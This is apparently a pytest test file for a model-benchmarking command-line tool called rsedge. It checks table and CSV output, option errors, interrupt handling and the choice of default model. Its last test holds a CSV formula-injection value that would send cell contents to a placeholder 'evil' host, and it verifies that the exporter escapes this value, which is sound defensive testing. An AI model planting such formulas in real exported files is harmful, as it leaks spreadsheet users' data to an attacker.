from __future__ import annotations

import csv
import io
import json
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest

from rsedge.bench.facts import Spread
from rsedge.cli import common, stopping
from rsedge.cli.bench import CSV_HEAD, to_csv
from rsedge.cli.bench_tables import _spread
from toys import TILE, make_bundle, pointwise_graph, pointwise_manifest

Run = Callable[..., tuple[int, str, str]]
SHORT = ("--rounds", 1, "--seconds", 0, "--size", 70, "--threads", 1, "--device", "cpu")


@pytest.fixture
def run(call_rsedge: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Run:
    """Run ``rsedge ARGS`` in tmp_path: (exit code, standard output, standard error)."""
    monkeypatch.chdir(tmp_path)
    return call_rsedge


@pytest.fixture
def taught(tmp_path: Path) -> Path:
    """Return a bundle that records its teacher's counts."""
    counts = {"network": "small", "params": 2_000_000, "macs": 4_000_000_000, "macs_tile": TILE}
    teacher = {"network": "large", "params": 60_000_000, "macs": 80_000_000_000, "macs_tile": TILE}
    manifest = pointwise_manifest(complexity={**counts, "teacher": teacher})
    return make_bundle(tmp_path / "taught.rsedge", manifest, pointwise_graph(manifest))


def test_the_tables_say_what_json_says(run: Run, taught: Path) -> None:
    code, printed, _ = run("bench", taught, *SHORT, "--json")
    assert code == 0
    *lines, last = printed.splitlines()
    facts = json.loads(last)
    assert facts["machine"]["cpu"] in lines[0]
    assert [row["label"] for row in facts["rows"]] == ["T", "1"]
    counts = [line.split() for line in lines if line.startswith(("T  60", "1  2.00"))]
    assert counts == [
        ["T", "60.00", "-", "80.00", "-", "640.0", "-"],
        ["1", "2.00", "30.0x", "4.00", "20.0x", "32.0", "0.0"],
    ]
    assert f"{1e3 * facts['rows'][1]['latency']['p50_s']:.1f}" in printed
    assert "sum" not in printed.split("prepare")[0]
    assert "not run" not in printed  # only the CPU was asked for
    assert "T: only its facts are known" in printed


def test_tables_fit_a_terminal(run: Run, taught: Path) -> None:
    _, printed, _ = run("bench", taught, *SHORT)
    tables = printed.split("\n\n", 1)[1]
    assert max(map(len, tables.splitlines())) <= 80


def test_csv_has_a_line_a_row(run: Run, taught: Path, tmp_path: Path) -> None:
    _, printed, _ = run("bench", taught, *SHORT, "--json", "--csv", "found.csv")
    facts = json.loads(printed.splitlines()[-1])
    with (tmp_path / "found.csv").open() as file:
        teacher, own = csv.DictReader(file)
    assert (teacher["label"], own["label"]) == ("T", "1")
    assert float(own["end_to_end.mpx_per_s.p50"]) == facts["rows"][1]["end_to_end"]["mpx_per_s"]["p50"]
    assert (teacher["latency.p50_s"], teacher["cost.params"]) == ("", "60000000")
    assert "latency" not in own  # only its parts have columns


def test_several_bundles(run: Run, taught: Path, bundle: Path) -> None:
    _, printed, _ = run("bench", taught, bundle, *SHORT, "--json")
    rows = json.loads(printed.splitlines()[-1])["rows"]
    assert [row["path"] for row in rows] == [str(taught), str(taught), str(bundle)]


def test_quiet_prints_nothing(run: Run, bundle: Path) -> None:
    assert run("bench", bundle, *SHORT, "--quiet") == (0, "", "")


@pytest.mark.parametrize(
    ("option", "message"),
    [
        (("--rounds", 0), "rounds 0"),
        (("--seconds", -1), "seconds -1"),
        (("--size", 0), "smaller than the model's tile"),
        (("--device", "cuda"), "not offer CUDA"),
        (("--device", "gpu"), "device 'gpu' is unknown"),
        (("--precision", "fp16"), "has no model.fp16.onnx"),
        (("--classes", "c.toml"), "label colours of --data"),
        (("--data", "nowhere"), "nowhere"),
        (("--csv", "nowhere/found.csv"), "--csv nowhere/found.csv cannot be written"),
        (("--csv", "."), "--csv . cannot be written"),
    ],
)
def test_impossible_options_are_refused(
    run: Run, bundle: Path, option: tuple[object, ...], message: str
) -> None:
    code, _, complaint = run("bench", bundle, *SHORT, *option)
    assert (code != 0, message in complaint) == (True, True), complaint


def test_no_bundle(run: Run) -> None:
    code, _, complaint = run("bench", "nowhere.rsedge", *SHORT)
    assert (code, "nowhere.rsedge not found" in complaint) == (2, True)


def test_ctrl_c_ends_the_workers(bundle: Path, tmp_path: Path) -> None:
    command = [sys.executable, "-m", "rsedge", "bench", str(bundle), "--seconds", "300", "--device", "cpu"]
    process = subprocess.Popen(
        [*command, "--size", "70"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=tmp_path
    )
    children = Path(f"/proc/{process.pid}/task/{process.pid}/children")
    until = time.monotonic() + 60
    while not children.read_text().split() and time.monotonic() < until:
        time.sleep(0.1)
    workers = [int(pid) for pid in children.read_text().split()]
    assert workers
    process.send_signal(signal.SIGINT)
    _, said = process.communicate(timeout=60)
    assert (process.returncode, "interrupted" in said) == (stopping.INTERRUPTED, True)
    # A worker that was starting when the signal came ends by itself, at the end of its input.
    until = time.monotonic() + 60
    while (
        left := [pid for pid in workers if Path(f"/proc/{pid}/cmdline").exists()]
    ) and time.monotonic() < until:
        left = [pid for pid in left if Path(f"/proc/{pid}/cmdline").read_bytes()]  # a zombie has none
        if not left:
            break
        time.sleep(0.1)
    assert not left


class TestTheModelOfThisFolder:
    def test_it_is_taken_and_said(
        self, run: Run, bundle: Path, write_raster: Callable[..., Path], noise: Callable[..., np.ndarray]
    ) -> None:
        shutil.copytree(bundle, common.OWN_MODEL)
        code, printed, said = run("infer", write_raster(noise(9, 9)), "--out", "mask.tif")
        assert code == 0
        assert "model    strongest-band" in printed
        assert "note: model student.rsedge (in this folder)" in said
        _, printed, said = run("bench", *SHORT)
        assert "strongest-band" in printed
        assert "note: model student.rsedge" in said

    def test_a_model_by_name_goes_before_it(
        self, run: Run, bundle: Path, write_raster: Callable[..., Path], noise: Callable[..., np.ndarray]
    ) -> None:
        common.OWN_MODEL.mkdir()
        raster = write_raster(noise(9, 9))
        code, _, said = run("infer", raster, "--out", "mask.tif", "--model", bundle)
        assert (code, "note: model" in said) == (0, False)
        # The broken default is an error, because another model's results would be worse.
        code, _, said = run("infer", raster, "--out", "mask.tif")
        assert (code, "student.rsedge is not a bundle" in said) == (2, True)

    def test_there_is_none(self, run: Run, capsys: pytest.CaptureFixture[str]) -> None:
        assert run  # in an empty folder
        assert common.model_or_default(None) is None
        assert common.model_or_default("other") == "other"
        common.OWN_MODEL.mkdir()
        assert common.model_or_default(None, quiet=True) == "student.rsedge"
        assert capsys.readouterr().err == ""


@pytest.mark.parametrize(
    ("found", "text"),
    [
        (Spread(0.5, 0.25, 1, 3), "0.500 (0.250 to 1.000)"),
        (Spread(0.0316, 0.0301, 0.0333, 3), "0.0316 (0.0301 to 0.0333)"),
        (Spread(12.34, 1, 100, 3), "12.3 (1.0 to 100.0)"),
        (Spread(1234.5, 1000, 2000, 3), "1234 (1000 to 2000)"),
        (None, "-"),
    ],
)
def test_spreads_keep_three_digits(found: Spread | None, text: str) -> None:
    assert _spread(found) == text


def test_somebodys_file_is_not_replaced_by_csv_unasked(run: Run, taught: Path, tmp_path: Path) -> None:
    thesis = tmp_path / "thesis.txt"
    thesis.write_text("label,years of work")
    code, _, err = run("bench", taught, *SHORT, "--csv", "thesis.txt")
    assert code == 2
    assert (
        "thesis.txt was not written by rsedge. Choose another name, or use --overwrite to replace it" in err
    )
    assert thesis.read_text() == "label,years of work"
    for more in (["--overwrite"], []):  # the second time, bench replaces its own file
        assert run("bench", taught, *SHORT, "--csv", "thesis.txt", *more)[0] == 0
    assert thesis.read_text().startswith(CSV_HEAD)


def test_a_models_name_is_no_formula() -> None:
    name = '=HYPERLINK("http://evil/?"&A1,"open")'
    row = SimpleNamespace(to_dict=lambda: {"label": "1", "role": "student", "name": name, "drop": -0.5})
    (found,) = csv.DictReader(io.StringIO(to_csv(SimpleNamespace(rows=[row]))))
    assert found == {"label": "1", "role": "student", "name": f"'{name}", "drop": "-0.5"}
